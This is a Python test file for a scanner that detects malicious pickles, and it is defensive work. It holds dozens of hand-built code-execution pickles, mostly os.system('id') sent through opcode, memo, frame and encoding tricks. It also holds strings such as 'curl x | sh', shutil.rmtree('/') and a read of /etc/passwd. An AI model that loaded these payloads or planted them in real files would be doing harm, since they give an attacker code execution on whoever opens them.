"""Every way a pickle can run code is found; each sample is written here and never loaded."""

import base64
import pickle
import struct

import pytest

from buildkit.findings import Severity
from buildkit.scan import Verdict
from tests.scan.pickler import (
    EVIL,
    PROTO,
    call,
    data,
    evil,
    look,
    named,
    number,
    rules,
    said,
    stacked,
    text,
    tuple_of,
    whole,
    worst,
)

SYSTEM = named("os", "system")
OS = call(named("builtins", "__import__"), text("os"))
MODULE = call(named("importlib", "import_module"), text("os"))
GETTER = call(named("operator", "attrgetter"), text("system"))
SIMPLE = call(named("types", "SimpleNamespace"))
LOADER = named("torch.storage", "_load_from_bytes")
BYTES = call(named("builtins", "bytes"))
RUNS = {
    "reduce": whole(call(SYSTEM, text("id"))),
    "stack_global": whole(call(stacked("posix", "system"), text("id"))),
    "protocol 0": b"cos\nsystem\n(S'id'\ntR.",
    "protocol 0 without an end": b"cos\nsystem\n(S'id'\ntR",
    "protocol 1": b"cposix\nsystem\nq\x00(U\x02idtq\x01Rq\x02.",
    "inst": b"(S'id'\nios\nsystem\n.",
    "obj": whole(b"(" + SYSTEM + text("id") + b"o"),
    "newobj": whole(SYSTEM + tuple_of(text("id")) + b"\x81"),
    "newobj_ex": whole(SYSTEM + tuple_of(text("id")) + b"}\x92"),
    "memo": whole(SYSTEM + b"\x940" + text("id") + b"\x85\x940h\x00h\x01R"),
    "memo, far": whole(SYSTEM + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("id") + b"\x85R"),
    "memo, by lines": whole(SYSTEM + b"p77\n0g77\n" + text("id") + b"\x85R"),
    "memo, written over": whole(stacked("builtins", "set") + b"q\x00" + SYSTEM + b"q\x00h\x00" + text("id") + b"\x85R"),
    "memo of names": whole(text("os") + b"\x94" + text("system") + b"\x94h\x00h\x01\x93" + text("id") + b"\x85R"),
    "dup": whole(SYSTEM + b"20" + text("id") + b"\x85R"),
    "popped": whole(call(SYSTEM, text("id")) + b"0N"),
    "popped with a mark": whole(b"(" + call(SYSTEM, text("id")) + b"1N"),
    "python 2's names": b"c__builtin__\neval\n(S'1'\ntR.",
    "python 2's modules": b"ccommands\ngetoutput\n(S'id'\ntR.",
    "dotted name": whole(call(stacked("torch.serialization", "os.system"), text("id"))),
    "dotted name, allowed module": whole(call(stacked("collections", "abc.sys.modules.get"), text("os"))),
    "class's method": whole(call(stacked("code", "InteractiveInterpreter.runcode"), b"}", text("1"))),
    "frame too long": PROTO + b"\x95" + struct.pack("<Q", 2**62) + call(SYSTEM, text("id")) + b".",
    "frame too short": PROTO + b"\x95" + struct.pack("<Q", 1) + call(SYSTEM, text("id")) + b".",
    "protocol in the middle": whole(b"N0\x80\x02" + call(SYSTEM, text("id"))),
    "broken behind": PROTO + call(SYSTEM, text("id")) + b"\xff\xff\xff",
    "cut behind": PROTO + call(SYSTEM, text("id")) + b"X\xff\xff\xff\x7fabc",
    "unbalanced before": whole(b"(0" + call(SYSTEM, text("id"))),
    "handed over": whole(call(named("collections", "defaultdict"), SYSTEM)),
    "as state": whole(SIMPLE + b"}" + text("__setstate__") + SYSTEM + b"sb" + text("id") + b"b"),
    "module without a name": whole(call(stacked("builtins", "__import__"), text("evil"))),
    "getattr": whole(call(call(named("builtins", "getattr"), OS, text("system")), text("id"))),
    "attrgetter": whole(call(call(GETTER, MODULE), text("id"))),
    "partial": whole(call(call(named("functools", "partial"), SYSTEM), text("id"))),
    "eval": whole(call(named("builtins", "eval"), text("1"))),
    "pip": whole(call(named("pip._internal.cli.main", "main"), b"]")),
    "runpy": whole(call(named("runpy", "run_path"), text("x"))),
    "pickle": whole(call(named("pickle", "loads"), data(b"N."))),
    "torch.load": whole(call(named("torch", "load"), text("x"))),
    "numpy.load": whole(call(named("numpy", "load"), text("x"))),
    "timeit": whole(call(named("timeit", "timeit"), text("1"))),
    "code objects": whole(call(named("types", "CodeType"), number(0))),
    "marshal": whole(call(named("marshal", "loads"), data(b"xx"))),
    "asyncio": whole(call(named("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"}")),
}  # fmt: skip


@pytest.mark.parametrize("name", RUNS)
def test_what_runs_code_is_critical(name):
    found = look(RUNS[name])
    assert found.verdict is Verdict.FINDINGS, said(found)
    assert "pickle-runs-code" in rules(found), said(found)
    assert worst(found) is Severity.CRITICAL


HIGH = {
    "network": (call(named("socket", "create_connection"), text("x")), "pickle-dangerous-global"),
    "files": (call(named("shutil", "rmtree"), text("/")), "pickle-dangerous-global"),
    "logging": (call(named("logging", "FileHandler"), text("x")), "pickle-dangerous-global"),
    "only imported": (SYSTEM, "pickle-dangerous-global"),
    "unknown, called": (call(named("some.package", "Thing")), "pickle-unknown-global"),
    "computed name": (call(named("builtins", "str"), text("os")) + text("system") + b"\x93", "pickle-computed-global"),
    "name that is no text": (text("os") + number(3) + b"\x93", "pickle-computed-global"),
    "name out of nowhere": (text("os") + b"h\x07\x93", "pickle-computed-global"),
    "extension 1": (b"\x82\x01", "pickle-extension-code"),
    "extension 2": (b"\x83\x01\x02", "pickle-extension-code"),
    "extension 4": (b"\x84\x01\x02\x03\x04", "pickle-extension-code"),
    "call of a call": (call(call(named("collections", "OrderedDict"))), "pickle-computed-call"),
    "state of a module": (named("torch", "_utils") + b"}" + text("x") + text("y") + b"sb", "pickle-alters-global"),
    "state of an allowed class": (named("collections", "OrderedDict") + b"}b", "pickle-alters-global"),
    "entries of a global": (named("os", "environ") + text("PATH") + text("/") + b"s", "pickle-alters-global"),
    "appended to a global": (named("sys", "path") + text("/tmp") + b"a", "pickle-alters-global"),
}


@pytest.mark.parametrize("name", HIGH)
def test_what_may_run_code_is_high(name):
    body, rule = HIGH[name]
    found = look(whole(body))
    assert rule in rules(found), said(found)
    assert worst(found) >= Severity.HIGH


MEDIUM = {
    "unknown, imported": (named("some.package", "Thing"), "pickle-unknown-global"),
    "codec that hides": (call(named("_codecs", "encode"), text("vq"), text("rot13")), "pickle-odd-arguments"),
    "memory": (call(named("builtins", "bytearray"), b"\x8a\x05\0\0\0\0\x7f"), "pickle-odd-arguments"),
    "special state": (SIMPLE + b"}" + text("__class__") + b"NsN\x86b", "pickle-special-state"),
    "tensor that is computed": (call(named("torch.storage", "_load_from_bytes"), BYTES), "pickle-odd-arguments"),
    "loader handed over": (call(named("collections", "defaultdict"), LOADER), "pickle-odd-arguments"),
    "loader as a method": (SIMPLE + b"}" + text("append") + LOADER + b"sb" + data(b"x") + b"a", "pickle-odd-arguments"),
    "joblib's file beside": (call(named("joblib.numpy_pickle", "NDArrayWrapper")), "pickle-unknown-global"),
    "memory map": (call(named("numpy", "memmap"), text("/etc/passwd")), "pickle-runs-code"),
    "state that is run": (call(named("scipy.stats._distn_infrastructure", "rv_continuous")), "pickle-runs-code"),
}  # fmt: skip


@pytest.mark.parametrize("name", MEDIUM)
def test_what_no_pickler_writes_is_found(name):
    body, rule = MEDIUM[name]
    found = look(whole(body))
    assert rule in rules(found), said(found)
    assert worst(found) >= Severity.MEDIUM


def test_calling_an_unknown_global_is_worse_than_importing_it():
    assert worst(look(whole(named("a.b", "c")))) is Severity.MEDIUM
    assert worst(look(whole(call(named("a.b", "c"))))) is Severity.HIGH


def test_a_finding_says_what_is_called_and_where():
    found = look(whole(b"N0" + call(SYSTEM, text("curl x | sh"))))
    (one,) = found.findings
    assert one.what == "calls os.system('curl x | sh')"
    assert one.offset == 4


def test_arguments_cannot_write_to_a_terminal():
    (one,) = look(whole(call(SYSTEM, text("\x1b[2J\n\u202e")))).findings
    assert one.what.isascii()
    assert one.what.isprintable()


NESTED = {
    "bytes": data(evil()),
    "bytes, protocol 0": data(b"cos\nsystem\n(S'id'\ntR."),
    "twice": data(whole(data(evil()))),
    "base64": text(base64.b64encode(evil()).decode()),
    "base64, for addresses": text(base64.urlsafe_b64encode(evil("subprocess", "call", "\u00ff" * 40)).decode()),
    "base64, in lines": text(base64.encodebytes(whole(text("x" * 90) + EVIL)).decode()),
    "base64 as bytes": data(base64.b64encode(evil())),
    "hexadecimal": text(evil().hex()),
    "latin-1 of protocol 2": text(evil().decode("latin-1")),
    "long latin-1": text(whole(text("x" * 600) + EVIL).decode("latin-1")),
    "long base64": text(base64.b64encode(whole(text("x" * 9000) + EVIL)).decode()),
    "python 2's string": b"T" + struct.pack("<i", len(evil())) + evil(),
    "quoted string": b"S" + ascii(evil().decode("latin-1")).encode() + b"\n",
    "bytearray": b"\x96" + struct.pack("<Q", len(evil())) + evil(),
    "tensor": call(named("torch.storage", "_load_from_bytes"), data(evil())),
}


@pytest.mark.parametrize("name", NESTED)
def test_a_pickle_in_a_constant_is_found(name):
    found = look(whole(NESTED[name]))
    assert "pickle-runs-code" in rules(found), said(found)
    assert all("@" in one.member for one in found.findings if one.rule.id == "pickle-runs-code")


def test_a_harmless_pickle_in_a_constant_is_a_low_finding():
    found = look(whole(data(pickle.dumps({"a": 1}))))
    assert (rules(found), worst(found)) == ({"pickle-in-constant"}, Severity.LOW)
    tensors = whole(call(named("torch.storage", "_load_from_bytes"), data(pickle.dumps({"a": 1}))))
    assert look(tensors).verdict is Verdict.CLEAN


def test_bytes_of_a_tensor_that_are_no_file_are_a_gap():
    found = look(whole(call(named("torch.storage", "_load_from_bytes"), data(b"\xff" * 20))))
    assert found.verdict is Verdict.PARTIAL


def test_the_users_list_allows_exactly_what_it_says():
    body = call(named("mine.layers", "Block"))
    assert look(whole(body), "mine.layers.Block").verdict is Verdict.CLEAN
    assert look(whole(body), "mine.*").verdict is Verdict.CLEAN
    assert look(whole(body), "mine.layers.Other").verdict is Verdict.FINDINGS
    assert look(whole(body), "mine.layer.*").verdict is Verdict.FINDINGS
    assert look(whole(call(stacked("mine.layers", "os.system"))), "mine.*").verdict is Verdict.FINDINGS
    assert look(whole(call(named("mine.layers", "__loader__"))), "mine.*").verdict is Verdict.FINDINGS


def test_the_allow_list_has_no_name_of_a_denied_one():
    from buildkit.scan.pickle.lists import Standing, allowed_names, find_denial

    bad = [
        f"{module}.{name}"
        for module, names in allowed_names().exact.items()
        for name in names
        if find_denial(module, name) is not Standing.UNKNOWN
    ]
    assert bad == []


@pytest.mark.parametrize("protocol", range(6))
def test_a_real_pickler_calling_system_is_found(protocol):
    class Evil:
        def __reduce__(self):
            import os

            return os.system, ("id",)

    found = look(pickle.dumps({"weights": [1.0, Evil()]}, protocol=protocol))
    assert rules(found) == {"pickle-runs-code"}
